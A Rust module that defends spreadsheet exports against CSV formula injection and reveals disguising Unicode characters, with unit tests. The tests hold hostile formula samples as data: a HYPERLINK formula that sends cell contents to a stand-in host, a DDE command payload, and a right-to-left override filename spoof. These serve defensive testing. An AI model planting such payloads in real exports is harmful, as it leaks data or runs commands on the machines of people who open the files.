//! Values written into files people open in a spreadsheet or read on a terminal.
//!
//! Text in the answers comes from customers and agents (an orderer's name, a reason), so a
//! file a vendor opens must not let it act: a cell that a spreadsheet would read as a
//! formula is neutralised as OWASP recommends for CSV injection, and characters that
//! disguise the text around them (right-to-left overrides, zero-width spaces, …) are shown
//! as visible escapes instead of being passed on.

use std::borrow::Cow;
use std::fmt::Write as _;

use claims_domain::is_disguising;

/// Whether a spreadsheet would take a cell starting with `c` as a formula: `=`, `+`, `-`,
/// `@`, a tab or a carriage return (OWASP's list), and the full-width forms of the first
/// four, which Korean and Japanese spreadsheets read the same way.
fn starts_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
    )
}

/// `value` as a spreadsheet cell: a leading `'` when it would otherwise start a formula
/// (spreadsheets take the quote as "this is text" and do not show it), and disguising
/// characters revealed as `<U+XXXX>`.
pub fn spreadsheet_cell(value: &str) -> Cow<'_, str> {
    let revealed = reveal(value);
    if revealed.chars().next().is_some_and(starts_formula) {
        Cow::Owned(format!("'{revealed}"))
    } else {
        revealed
    }
}

/// `value` with every character that disguises text, and every control character other
/// than a line break or tab, written as `<U+XXXX>`, so that what a person reads is what
/// the value holds.
pub fn reveal(value: &str) -> Cow<'_, str> {
    let hidden = |c: char| is_disguising(c) || (c.is_control() && !matches!(c, '\n' | '\t'));
    if !value.chars().any(hidden) {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        if hidden(c) {
            let _ = write!(out, "<U+{:04X}>", c as u32);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "＝1+1",
        ] {
            let cell = spreadsheet_cell(formula);
            assert!(cell.starts_with('\''), "{cell}");
        }
        assert_eq!(spreadsheet_cell("홍길동"), "홍길동");
        assert_eq!(spreadsheet_cell("1000"), "1000");
        assert_eq!(spreadsheet_cell("a=b"), "a=b");
        // A carriage return is revealed, which leaves nothing to start a formula.
        assert_eq!(spreadsheet_cell("\r=1"), "<U+000D>=1");
        assert_eq!(spreadsheet_cell(""), "");
    }

    #[test]
    fn disguising_characters_are_shown() {
        assert_eq!(reveal("abc\u{202E}fdp.exe"), "abc<U+202E>fdp.exe");
        assert_eq!(reveal("홍\u{200B}길동"), "홍<U+200B>길동");
        assert_eq!(reveal("\u{FEFF}=1"), "<U+FEFF>=1");
        assert_eq!(reveal("두 줄\n사유"), "두 줄\n사유");
        assert!(matches!(reveal("plain"), Cow::Borrowed(_)));
        // A revealed character in front cannot hide a formula behind it either.
        assert_eq!(spreadsheet_cell("\u{200B}=1"), "<U+200B>=1");
    }
}
